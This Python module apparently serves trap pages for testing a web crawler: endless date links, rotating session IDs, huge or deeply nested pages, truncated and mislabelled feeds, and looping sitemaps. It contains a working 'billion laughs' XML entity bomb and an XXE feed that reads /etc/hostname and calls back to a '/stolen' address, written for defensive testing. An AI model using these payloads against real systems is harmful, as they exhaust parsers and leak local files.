"""Documents that trap their reader: without end, too full, too deep, cut in half, or not what they say."""

from __future__ import annotations

from datetime import date, timedelta
from functools import lru_cache
from urllib.parse import quote

from mayfly.testing.messages import Reply, Request

LINKS = 50_000
DEPTH = 100_000
_RSS, _XML = "application/rss+xml", "application/xml"
_ENTITIES = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
_LAUGHS = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{_ENTITIES}]>'


def html(title: str, *parts: str) -> bytes:
    body = "\n".join(parts)
    return f"<!doctype html>\n<html><head><title>{title}</title></head><body>\n{body}\n</body></html>\n".encode()


def link(url: str, words: str) -> str:
    return f'<a href="{url}">{words}</a>'


def calendar(request: Request, visit: int) -> Reply:
    """Each day links the days before and after it."""
    try:
        day = date.fromisoformat(request.path.rpartition("/")[2])
        beside = [day - timedelta(1), day + timedelta(1)]
    except (ValueError, OverflowError):
        day = date(2024, 2, 28)
        beside = [day - timedelta(1), day + timedelta(1)]
    return Reply(html(f"{day}", "<p>Nothing happened.</p>", *(link(f"/calendar/{one}", f"{one}") for one in beside)))


def session_ids(request: Request, visit: int) -> Reply:
    """The same ten pages, each time under new addresses."""
    session = f"{visit:08x}{visit * 2654435761 % 2**64:016x}"
    names = ("PHPSESSID", "sid", "visitor")  # the last is one that no list of names knows
    links = [link(f"/session-ids/{n}?{names[n % 3]}={session}", f"Page {n}") for n in range(10)]
    return Reply(html("Welcome back", *links))


def many_links(request: Request, visit: int) -> Reply:
    return Reply(_many_links())


@lru_cache(maxsize=1)
def _many_links() -> bytes:
    return html("Everything", *(link(f"/ordinary?n={n}", f"Story {n}") for n in range(LINKS)))


def deep_nesting(request: Request, visit: int) -> Reply:
    return Reply(html("Deep", "<div>" * DEPTH + link("/ordinary", "the bottom")))


def long_urls(request: Request, visit: int) -> Reply:
    return Reply(html("Long", *(link("/ordinary?" + "x" * 10**n, f"{10**n}") for n in range(1, 7))))


def soft_404(request: Request, visit: int) -> Reply:
    """Every address below it is 'not found', with status 200."""
    return Reply(html("Page not found", "<h1>Sorry</h1><p>We cannot find this page.</p>", link("/", "Home")))


def login_wall(request: Request, visit: int) -> Reply:
    if request.path.endswith("/log-in"):
        form = '<form method=post action="/login-wall/log-in"><input name=user><input type=password name=secret></form>'
        return Reply(html("Log in to read on", form))
    return Reply(b"", 302, headers=(("Location", f"/login-wall/log-in?next={quote(request.path)}"),))


def entity_bomb_feed(request: Request, visit: int) -> Reply:
    feed = f"{_LAUGHS}<rss version='2.0'><channel><title>&e9;</title><item><title>&e9;</title></item></channel></rss>"
    return Reply(feed.encode(), type=_RSS)


def entity_bomb_sitemap(request: Request, visit: int) -> Reply:
    return Reply(f"{_LAUGHS}<urlset><url><loc>http://trouble.test/&e9;</loc></url></urlset>".encode(), type=_XML)


def outside_entity(request: Request, visit: int) -> Reply:
    """Asks its reader to open a file, and an address where we see it come."""
    stolen = f"http://{request.local[0]}:{request.local[1]}/stolen"
    head = f'<!DOCTYPE x SYSTEM "{stolen}" [<!ENTITY f SYSTEM "file:///etc/hostname"><!ENTITY u SYSTEM "{stolen}">]>'
    items = "<item><title>&f;&u;</title><link>http://trouble.test/ordinary</link></item>"
    feed = f'<?xml version="1.0"?>{head}<rss version="2.0"><channel><title>a</title>{items}</channel></rss>'
    return Reply(feed.encode(), type=_RSS)


def _feed(number: int) -> bytes:
    items = "".join(
        f"<item><title>Story {n}</title><link>http://trouble.test/ordinary?n={n}</link>"
        f"<pubDate>Mon, 01 Jan 2024 {n % 24:02}:00:00 GMT</pubDate></item>\n"
        for n in range(number)
    )
    return f'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>\n{items}</channel></rss>'.encode()


def cut_feed(request: Request, visit: int) -> Reply:
    whole = _feed(40)
    return Reply(whole[: len(whole) // 2], type=_RSS)


def feed_as_html(request: Request, visit: int) -> Reply:
    return Reply(_feed(40))


def html_as_feed(request: Request, visit: int) -> Reply:
    return Reply(html("Moved", "<p>Our feeds have moved.</p>"), type=_RSS)


def cut_sitemap(request: Request, visit: int) -> Reply:
    urls = "".join(f"<url><loc>http://trouble.test/ordinary?n={n}</loc></url>\n" for n in range(40))
    whole = f'<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{urls}</urlset>'.encode()
    return Reply(whole[: len(whole) // 2], type=_XML)


def sitemap_loop(request: Request, visit: int) -> Reply:
    """An index of sitemaps that names itself, and one more that does."""
    names = "".join(f"<sitemap><loc>http://trouble.test/sitemap-loop{end}</loc></sitemap>" for end in ("", f"/{visit}"))
    index = f'<?xml version="1.0"?><sitemapindex xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">{names}'
    return Reply(f"{index}</sitemapindex>".encode(), type=_XML)
